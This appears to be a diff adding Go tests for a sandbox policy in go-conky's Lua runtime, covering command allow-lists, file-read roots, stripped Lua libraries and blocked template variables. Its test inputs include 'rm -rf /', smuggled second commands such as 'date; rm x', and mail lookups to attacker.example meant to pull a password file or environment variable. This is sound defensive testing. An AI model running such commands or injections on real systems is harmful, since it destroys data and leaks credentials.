@@ -0,0 +1,285 @@
+package lua
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+
+	rt "github.com/arnodel/golua/runtime"
+
+	"github.com/opd-ai/go-conky/internal/monitor"
+)
+
+// newPolicyRuntime creates a runtime enforcing policy and records the
+// operations it blocks.
+func newPolicyRuntime(t *testing.T, policy Policy) (*ConkyRuntime, *blockRecorder) {
+	t.Helper()
+	cfg := DefaultConfig()
+	cfg.Policy = policy
+	runtime, err := New(cfg)
+	if err != nil {
+		t.Fatalf("failed to create runtime: %v", err)
+	}
+	t.Cleanup(func() { runtime.Close() })
+
+	recorder := &blockRecorder{}
+	runtime.SetPolicyHandler(recorder.record)
+	return runtime, recorder
+}
+
+// blockRecorder collects the operations blocked by a runtime's policy.
+type blockRecorder struct {
+	mu     sync.Mutex
+	errors []*PolicyError
+}
+
+func (r *blockRecorder) record(err *PolicyError) {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	r.errors = append(r.errors, err)
+}
+
+func (r *blockRecorder) all() []*PolicyError {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	return append([]*PolicyError(nil), r.errors...)
+}
+
+func TestPolicyAllowsCommand(t *testing.T) {
+	allowList := Policy{Exec: ExecAllowListed, AllowedCommands: []string{"date", "cat /proc/loadavg | cut -d' ' -f1"}}
+
+	tests := []struct {
+		policy  Policy
+		command string
+		want    bool
+	}{
+		{Policy{}, "rm -rf /", true},
+		{Policy{Exec: ExecDenyAll}, "date", false},
+		{allowList, "date", true},
+		{allowList, "  date +%H:%M ", true},
+		{allowList, "date; rm x", false},
+		{allowList, "date $(rm x)", false},
+		{allowList, "date > /etc/motd", false},
+		{allowList, "cat /proc/loadavg | cut -d' ' -f1", true},
+		{allowList, "cat /proc/loadavg", false},
+		{allowList, "datex", false},
+		{allowList, "", false},
+	}
+	for _, tt := range tests {
+		if got := tt.policy.AllowsCommand(tt.command); got != tt.want {
+			t.Errorf("AllowsCommand(%q) with mode %d = %v, want %v", tt.command, tt.policy.Exec, got, tt.want)
+		}
+	}
+}
+
+func TestPolicyCheckRead(t *testing.T) {
+	root := t.TempDir()
+	outside := t.TempDir()
+	inside := filepath.Join(root, "theme.png")
+	secret := filepath.Join(outside, "secret")
+	for _, path := range []string{inside, secret} {
+		if err := os.WriteFile(path, []byte("x"), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	link := filepath.Join(root, "link")
+	if err := os.Symlink(secret, link); err != nil {
+		t.Fatal(err)
+	}
+
+	runtime, recorder := newPolicyRuntime(t, Policy{RestrictFiles: true, ReadRoots: []string{root}})
+
+	if err := runtime.CheckRead(inside); err != nil {
+		t.Errorf("CheckRead(%q) = %v, want allowed", inside, err)
+	}
+	if err := runtime.CheckRead(filepath.Join(root, "missing")); err != nil {
+		t.Errorf("CheckRead() of a missing file under the root = %v, want allowed", err)
+	}
+	for _, path := range []string{secret, link, filepath.Join(root, "..", filepath.Base(outside), "secret"), root + "-sibling"} {
+		err := runtime.CheckRead(path)
+		var policyErr *PolicyError
+		if !errors.As(err, &policyErr) || policyErr.Op != "read" || !errors.Is(err, ErrBlocked) {
+			t.Errorf("CheckRead(%q) = %v, want a blocked read", path, err)
+		}
+	}
+	if err := runtime.CheckWrite(inside); !errors.Is(err, ErrBlocked) {
+		t.Errorf("CheckWrite() = %v, want blocked", err)
+	}
+	if n := len(recorder.all()); n != 5 {
+		t.Errorf("reported %d blocked operations, want 5", n)
+	}
+
+	// Without RestrictFiles everything is allowed
+	open, _ := newPolicyRuntime(t, Policy{})
+	if err := open.CheckRead(secret); err != nil {
+		t.Errorf("CheckRead() with the zero policy = %v, want allowed", err)
+	}
+}
+
+func TestPolicyLuaLibraries(t *testing.T) {
+	root := t.TempDir()
+	outside := t.TempDir()
+	for _, dir := range []string{root, outside} {
+		if err := os.WriteFile(filepath.Join(dir, "data.txt"), []byte("hello"), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(dir, "mod.lua"), []byte("return 'module'"), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	t.Setenv("CONKY_POLICY_SECRET", "hunter2")
+
+	runtime, recorder := newPolicyRuntime(t, Policy{Exec: ExecDenyAll, RestrictFiles: true, ReadRoots: []string{root}})
+	runtime.SetGlobal("root", rt.StringValue(root))
+	runtime.SetGlobal("outside", rt.StringValue(outside))
+
+	tests := []struct {
+		name    string
+		code    string
+		want    string
+		wantErr bool
+	}{
+		{"read under root", "local f = io.open(root .. '/data.txt') local s = f:read('a') f:close() return s", "hello", false},
+		{"read outside root", "local f, err = io.open(outside .. '/data.txt') return tostring(f) .. ' ' .. err", "nil", false},
+		{"write", "local f, err = io.open(root .. '/new.txt', 'w') return tostring(f)", "nil", false},
+		{"popen", "local f, err = io.popen('echo hi') return tostring(f)", "nil", false},
+		{"lines outside root", "for l in io.lines(outside .. '/data.txt') do end", "", true},
+		{"remove", "os.remove(root .. '/data.txt')", "", true},
+		{"dofile outside root", "return dofile(outside .. '/mod.lua')", "", true},
+		{"dofile under root", "return dofile(root .. '/mod.lua')", "module", false},
+		{"golib", "return tostring(golib)", "nil", false},
+		{"require golib", "return tostring(package.loaded.golib)", "nil", false},
+		{"debug", "return tostring(debug) .. ' ' .. tostring(package.loaded.debug)", "nil nil", false},
+		{"os.exit", "return tostring(os.exit) .. ' ' .. tostring(package.loaded.os.exit)", "nil nil", false},
+		{"os.getenv", "return tostring(os.getenv('CONKY_POLICY_SECRET'))", "nil", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			value, err := runtime.ExecuteString(tt.name, tt.code)
+			if tt.wantErr {
+				if err == nil || !strings.Contains(err.Error(), "blocked by policy") {
+					t.Errorf("error = %v, want blocked by policy", err)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("unexpected error: %v", err)
+			}
+			if got, _ := value.ToString(); !strings.HasPrefix(got, tt.want) {
+				t.Errorf("result = %q, want prefix %q", got, tt.want)
+			}
+		})
+	}
+
+	// require cannot run under the runtime's resource limits, so the module
+	// searcher is called directly
+	pkg := runtime.GetGlobal("package").AsTable()
+	searcher := pkg.Get(rt.StringValue("searchers")).AsTable().Get(rt.IntValue(2))
+	for _, dir := range []string{root, outside} {
+		pkg.Set(rt.StringValue("path"), rt.StringValue(dir+"/?.lua"))
+		_, err := rt.Call1(runtime.Runtime().MainThread(), searcher, rt.StringValue("mod"))
+		if blocked := err != nil && strings.Contains(err.Error(), "blocked by policy"); blocked != (dir == outside) {
+			t.Errorf("searching %s: error = %v", dir, err)
+		}
+	}
+
+	if _, err := os.Stat(filepath.Join(root, "data.txt")); err != nil {
+		t.Errorf("blocked os.remove removed the file: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(root, "new.txt")); err == nil {
+		t.Error("blocked io.open created a file")
+	}
+	if len(recorder.all()) == 0 {
+		t.Error("no blocked operations reported")
+	}
+	if !slices.ContainsFunc(recorder.all(), func(err *PolicyError) bool {
+		return err.Op == "env" && err.Target == "CONKY_POLICY_SECRET"
+	}) {
+		t.Error("blocked os.getenv not reported")
+	}
+
+	// Without a policy the libraries are left in place
+	open, _ := newPolicyRuntime(t, Policy{})
+	value, err := open.ExecuteString("open", "return type(debug) .. type(os.exit) .. os.getenv('CONKY_POLICY_SECRET')")
+	if got, _ := value.ToString(); err != nil || got != "tablefunctionhunter2" {
+		t.Errorf("unrestricted runtime = %q, %v", got, err)
+	}
+}
+
+func TestPolicyVariables(t *testing.T) {
+	root := t.TempDir()
+	outside := t.TempDir()
+	marker := filepath.Join(t.TempDir(), "ran")
+	image := filepath.Join(outside, "logo.png")
+	if err := os.WriteFile(image, nil, 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	provider := newMockProvider()
+	provider.pids = map[int]monitor.PIDInfo{
+		4242: {
+			PID:       4242,
+			Cmdline:   "psql --password hunter2",
+			Cwd:       "/home/alice",
+			Environ:   []string{"PGPASSWORD=hunter2"},
+			OpenFiles: []string{"/home/alice/.pgpass"},
+			State:     "S",
+		},
+	}
+	provider.mailboxes = map[string]monitor.MailboxStats{
+		filepath.Join(root, "inbox"):    {Total: 2},
+		filepath.Join(outside, "inbox"): {Total: 5},
+	}
+
+	runtime, recorder := newPolicyRuntime(t, Policy{Exec: ExecAllowListed, AllowedCommands: []string{"echo"}, RestrictFiles: true, ReadRoots: []string{root}})
+	api, err := NewConkyAPI(runtime, provider)
+	if err != nil {
+		t.Fatalf("failed to create API: %v", err)
+	}
+	t.Cleanup(func() { api.Close() })
+
+	tests := []struct {
+		template string
+		want     string
+	}{
+		{"${exec echo allowed}", "allowed"},
+		{"${exec touch " + marker + "}", ""},
+		{"${exec echo x; touch " + marker + "}", ""},
+		{"${if_existing " + image + "}yes${else}no${endif}", "no"},
+		{"${if_existing " + root + "}yes${else}no${endif}", "yes"},
+		{"${image " + image + "}", ""},
+		{"${pid_cmdline 4242}", ""},
+		{"${pid_cwd 4242}", ""},
+		{"${pid_openfiles 4242}", ""},
+		{"${pid_environ 4242 PGPASSWORD}", ""},
+		{"${pid_environ_list 4242}", ""},
+		{"${pid_state_short 4242}", "S"},
+		{"${mails " + filepath.Join(root, "inbox") + "}", "2"},
+		{"${mails " + filepath.Join(outside, "inbox") + "}", "0"},
+	}
+	for _, tt := range tests {
+		if got := api.Parse(tt.template); got != tt.want {
+			t.Errorf("Parse(%q) = %q, want %q", tt.template, got, tt.want)
+		}
+	}
+	if _, err := os.Stat(marker); err == nil {
+		t.Error("a blocked command ran")
+	}
+
+	// Passwords of mail servers given inline are secrets too
+	api.Parse("${imap_unseen attacker.example bob file:" + filepath.Join(outside, "pass") + "}")
+	api.Parse("${pop3_unseen attacker.example bob env:HOME}")
+
+	ops := map[string]int{}
+	for _, err := range recorder.all() {
+		ops[err.Op]++
+	}
+	if ops["exec"] != 2 || ops["read"] != 7 || ops["env"] != 3 {
+		t.Errorf("blocked operations = %v, want 2 exec, 7 read and 3 env", ops)
+	}
+}